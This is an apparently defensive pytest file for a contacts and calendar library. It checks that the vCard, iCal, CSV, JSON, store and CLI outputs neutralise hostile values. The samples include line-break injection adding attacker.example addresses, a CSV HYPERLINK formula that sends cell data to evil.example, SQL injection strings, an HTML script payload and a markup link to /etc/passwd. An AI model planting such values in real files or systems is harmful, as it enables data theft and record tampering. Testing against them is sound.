"""Hostile values on output (issue 8, part 2): nothing netcore writes may break the next reader.

Records carrying hostile text (line breaks meant to start a new content line, lone
surrogates, spreadsheet formulas, SQL, HTML, rich markup) go through every writer, the
store and the CLI; each test asserts what comes out. Tests marked ``xfail(strict=True)``
pin a bug found by this catalogue; each reason says what happens and where.
"""

from __future__ import annotations

import csv as _csv
import io
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from types import SimpleNamespace

import pytest
from typer.testing import CliRunner

from _watchdog import watchdog
from netcore.cli import _common, app
from netcore.errors import NetcoreError
from netcore.formats import contentline, csv, ical, jcard, json, vcard
from netcore.model import (
    Address,
    Contact,
    Email,
    Extension,
    Name,
    Network,
    Organization,
    Phone,
)
from netcore.model.event import Attendee, Event
from netcore.store import Store

# ---- CR and LF injected into values -----------------------------------------------------

INJECTED = "X-INJECTED"


def _injecting_contact() -> Contact:
    def inj(n: int, eol: str = "\r\n") -> str:
        return f"v{n}{eol}{INJECTED}:{n}{eol}EMAIL:evil{n}@attacker.example"

    return Contact(
        uid="u1",
        formatted_name="Ann",  # FN refuses line breaks at construction (tested below)
        name=Name(family=inj(1), given=inj(2, "\n")),
        nicknames=(inj(3, "\r"),),
        note=f"x\nEND:VCARD\nBEGIN:VCARD\nUID:evil\nFN:evil\n{INJECTED}:4",
        emails=(Email(address="ann@example.org", label=inj(5)),),
        addresses=(Address(street=inj(6), formatted=inj(7), label=inj(8)),),
        organizations=(Organization(name=inj(9), title=inj(10)),),
        categories=(inj(11),),
        extensions=(
            Extension(name="X-FOO", value=inj(12)),
            Extension(name="X-BAR", value="v", params=(("X-P", (inj(13),)),)),
        ),
    )


def test_line_breaks_cannot_enter_a_formatted_name_or_uid() -> None:
    with pytest.raises(ValueError, match="single line"):
        Contact(uid="u", formatted_name=f"Ann\r\n{INJECTED}:1")
    with pytest.raises(ValueError, match="single line"):
        Contact(uid=f"u\n{INJECTED}:1")


@pytest.mark.parametrize("version", vcard.VERSIONS)
def test_vcard_output_never_starts_a_content_line_from_a_value(version: str) -> None:
    c = _injecting_contact()
    with watchdog():
        text = vcard.dumps(c, version=version)
        parsed = contentline.parse(text)
        back = vcard.loads(text)
    assert len(parsed) == 1
    names = [p.name.upper() for p in parsed[0].properties]
    assert INJECTED not in names
    assert names.count("EMAIL") == 1
    assert names.count("UID") == 1
    assert parsed.issues == []
    [again] = back
    assert (again.uid, [e.address for e in again.emails]) == ("u1", ["ann@example.org"])
    assert again.note == c.note
    # Extension values hold escaped text: a raw line break is written as the escape \n.
    assert again.extensions[0].value == c.extensions[0].value.replace("\r\n", "\\n")
    # RFC 6868: a line break in a parameter is written ^n and reads back as LF.
    [(_, (param,))] = again.extensions[1].params
    assert param == c.extensions[1].params[0][1][0].replace("\r\n", "\n")


def test_jcard_output_keeps_line_breaks_inside_values() -> None:
    c = _injecting_contact()
    with watchdog():
        back = jcard.loads(jcard.dumps([c]))
    [again] = back
    assert (again.uid, [e.address for e in again.emails]) == ("u1", ["ann@example.org"])
    assert again.note == c.note
    assert not any(e.name.upper() == INJECTED for e in again.extensions)


def _injecting_event() -> Event:
    return Event(
        uid="e1",
        title=f"Title\r\nATTENDEE:mailto:evil@attacker.example\r\n{INJECTED}:1",
        start=datetime(2026, 1, 1, 9, tzinfo=UTC),
        location=f"L\n{INJECTED}:2",
        description="D\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nDTSTART:20260101T000000Z",
        categories=(f"c\r{INJECTED}:3",),
        url=f"https://example.org/\r\n{INJECTED}:4",
        organizer=Attendee(email="o@example.org", name=f"O^n;{INJECTED}=5"),
        attendees=(
            Attendee(email="a@example.org", name=f'Bob";PARTSTAT=DECLINED;{INJECTED}=6:x'),
            Attendee(email="b@example.org", name=f'Eve\\";{INJECTED}=7:\\'),
        ),
    )


def test_ical_output_never_starts_a_content_line_from_a_value() -> None:
    e = _injecting_event()
    with watchdog():
        text = ical.dumps([e])
        parsed = contentline.parse(text)
        back = ical.loads(text)
    [calendar] = parsed
    [vevent] = calendar.children
    names = [p.name.upper() for p in vevent.properties]
    assert INJECTED not in names
    assert not any(INJECTED in pname for p in vevent.properties for pname, _ in p.params)
    assert names.count("ATTENDEE") == 2
    assert names.count("UID") == 1
    [again] = back
    assert again.title == e.title.replace("\r\n", "\n")
    assert [(a.email, a.name, a.status) for a in again.attendees] == [
        (a.email, a.name, a.status) for a in e.attendees
    ]
    assert again.organizer is not None
    assert again.organizer.name == f"O^n;{INJECTED}=5"


def test_follow_ups_and_birthdays_never_start_a_content_line_from_a_name() -> None:
    nudge = SimpleNamespace(
        uid="ann", due_on=date(2026, 3, 1), reasons=(f"r\r\n{INJECTED}:1",), name=None
    )
    names = {"ann": f"Ann\r\n{INJECTED}:2\r\nEND:VTODO"}
    bday = Contact(uid="b", name=Name(given=f"G\r\n{INJECTED}:3"), birthday=date(1990, 5, 1))
    with watchdog():
        texts = [ical.follow_ups([nudge], names=names), ical.birthdays([bday])]
    for text in texts:
        [calendar] = contentline.parse(text)
        [child] = calendar.children
        assert INJECTED not in [p.name.upper() for p in child.properties]


# ---- lone surrogates on output -----------------------------------------------------------

SURROGATE_NOTE = "bad \ud800 note"


def _surrogate_writers() -> dict[str, Callable[[], str]]:
    c = Contact(uid="u1", formatted_name="Ann", note=SURROGATE_NOTE)
    net = Network()
    net.add_contacts([c])
    event = Event(uid="e1", title=SURROGATE_NOTE, start=date(2026, 1, 1))
    bday = Contact(uid="u2", formatted_name="A\ud800", birthday=date(2000, 1, 2))
    return {
        "vcard-2.1": lambda: vcard.dumps(c, version="2.1"),
        "vcard-3.0": lambda: vcard.dumps(c, version="3.0"),
        "vcard-4.0": lambda: vcard.dumps(c, version="4.0"),
        "jcard": lambda: jcard.dumps([c]),
        "json": lambda: json.dumps(net),
        "csv-google": lambda: csv.dumps([c], dialect="google"),
        "csv-outlook": lambda: csv.dumps([c], dialect="outlook"),
        "ical-dumps": lambda: ical.dumps([event]),
        "ical-birthdays": lambda: ical.birthdays([bday]),
    }


@pytest.mark.parametrize("writer", list(_surrogate_writers()))
def test_lone_surrogate_gives_a_netcore_error_or_valid_utf8(writer: str) -> None:
    write = _surrogate_writers()[writer]
    try:
        with watchdog():
            text = write()
    except NetcoreError:
        return  # a clear, typed refusal is an accepted outcome
    data = text.encode("utf-8")  # what every dump() does: must not raise
    if writer.startswith("vcard"):
        back = vcard.loads(data)
        assert back.issues == []
        assert back[0].note is not None
        assert "\ufffd" in back[0].note or back[0].note == "bad  note"


def test_jcard_writes_a_lone_surrogate_as_a_json_escape_that_reads_back() -> None:
    c = Contact(uid="u1", formatted_name="Ann", note=SURROGATE_NOTE)
    text = jcard.dumps([c])
    assert "\\ud800" in text
    assert text.isascii() or text.encode("utf-8")
    assert jcard.loads(text)[0].note == SURROGATE_NOTE


# ---- CSV formula injection ---------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("dialect", csv.DIALECTS)
def test_csv_dumps_neutralises_every_formula_cell_and_reads_it_back(dialect: str) -> None:
    contacts = [
        Contact(
            uid=f"u{i}",
            formatted_name=f"N{i}",
            name=Name(given=value, family=f"F{i}"),
            emails=(Email(address=f"a{i}@example.org"),),
            organizations=(Organization(name=value, title=value),),
            note=value,
        )
        for i, value in enumerate(FORMULAS)
    ]
    with watchdog():
        text = csv.dumps(contacts, dialect=dialect)  # type: ignore[arg-type]
        back = csv.loads(text, dialect=dialect)  # type: ignore[arg-type]
    rows = list(_csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row if cell]
    assert cells
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert [c.name.given if c.name else None for c in back] == [
        v.lstrip() if v[0] in "\t\r" else v for v in FORMULAS
    ]


def test_csv_phone_cells_stay_dialable_but_other_triggers_are_neutralised() -> None:
    c = Contact(
        uid="p",
        formatted_name="P",
        phones=(Phone(number="+44 20 7946 0958"), Phone(number="+1+1"), Phone(number="-2")),
    )
    text = csv.dumps([c], dialect="google")
    row = next(r for r in _csv.reader(io.StringIO(text, newline="")) if "P" in r)
    assert "+44 20 7946 0958" in row
    assert "'+1+1" in row
    assert "'-2" in row


def test_cli_csv_output_neutralises_formula_names(tmp_path: Path) -> None:
    path = tmp_path / "c.vcf"
    path.write_text(vcard.dumps(Contact(uid="u1", formatted_name=FORMULAS[0])), encoding="utf-8")
    result = CliRunner().invoke(
        app, ["health", str(path), "--as-of", "2026-11-27", "--format", "csv"]
    )
    assert result.exit_code == 0, result.stderr
    rows = list(_csv.reader(io.StringIO(result.stdout)))
    assert not [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]


# ---- SQL and HTML in names -------------------------------------------------------------------

SQL = "Robert'); DROP TABLE contacts;--"
HTML = "<script>alert(1)</script>"


def test_sql_looking_names_are_stored_verbatim_and_load_back_equal(tmp_path: Path) -> None:
    c = Contact(
        uid=SQL,
        formatted_name=SQL,
        note=f"{SQL}\n' OR '1'='1",
        emails=(Email(address="bobby@example.org"),),
    )
    with Store.open(tmp_path / "n.db") as store:
        assert store.add_contacts([c]).added == (SQL,)
        assert store.counts().contacts == 1
    with Store.open(tmp_path / "n.db") as store:
        assert store.contact(SQL) == c
        assert store.load().contact(SQL) == c
        assert [x.uid for x in store.find(email="bobby@example.org")] == [SQL]


def test_html_in_names_is_kept_verbatim_in_records_and_json() -> None:
    text = vcard.dumps(Contact(uid="u1", formatted_name=HTML, note=f"<b>{HTML}</b>"))
    [c] = vcard.loads(text)
    assert (c.formatted_name, c.note) == (HTML, f"<b>{HTML}</b>")
    net = Network()
    net.add_contacts([c])
    doc = json.dumps(net)
    assert json.loads(doc).contact("u1").formatted_name == HTML
    assert HTML in doc or "\\u003cscript" in doc


MARKUP = ["[bold red]x[/]", "[link=file:///etc/passwd]y[/link]", HTML]


def _markup_file(tmp_path: Path) -> Path:
    contacts = [Contact(uid=f"u{i}", formatted_name=n) for i, n in enumerate(MARKUP)]
    text = vcard.dumps(contacts).replace("UID:u0\r\n", "UID:u0\r\nBDAY:[blink]b[/blink]\r\n")
    path = tmp_path / "markup.vcf"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("command", ["health", "inspect"])
def test_cli_prints_markup_in_names_literally_when_piped(tmp_path: Path, command: str) -> None:
    path = _markup_file(tmp_path)
    args = [command, str(path)] + (["--as-of", "2026-11-27"] if command == "health" else [])
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.stderr
    shown = result.stdout + result.stderr
    if command == "health":
        for name in MARKUP:
            assert name in result.stdout
    assert "[blink]b[/blink]" in shown


@pytest.mark.parametrize("command", ["health", "inspect"])
def test_cli_prints_markup_in_names_literally_on_a_terminal(
    tmp_path: Path, command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_common, "is_terminal", lambda: True)  # the rich-table branch
    path = _markup_file(tmp_path)
    args = [command, str(path)] + (["--as-of", "2026-11-27"] if command == "health" else [])
    result = CliRunner().invoke(app, args, env={"COLUMNS": "250"})  # wide: no folding
    assert result.exit_code == 0, result.stderr
    if command == "health":
        for name in MARKUP:
            assert name in result.stdout
    else:
        assert "[blink]b[/blink]" in result.stdout
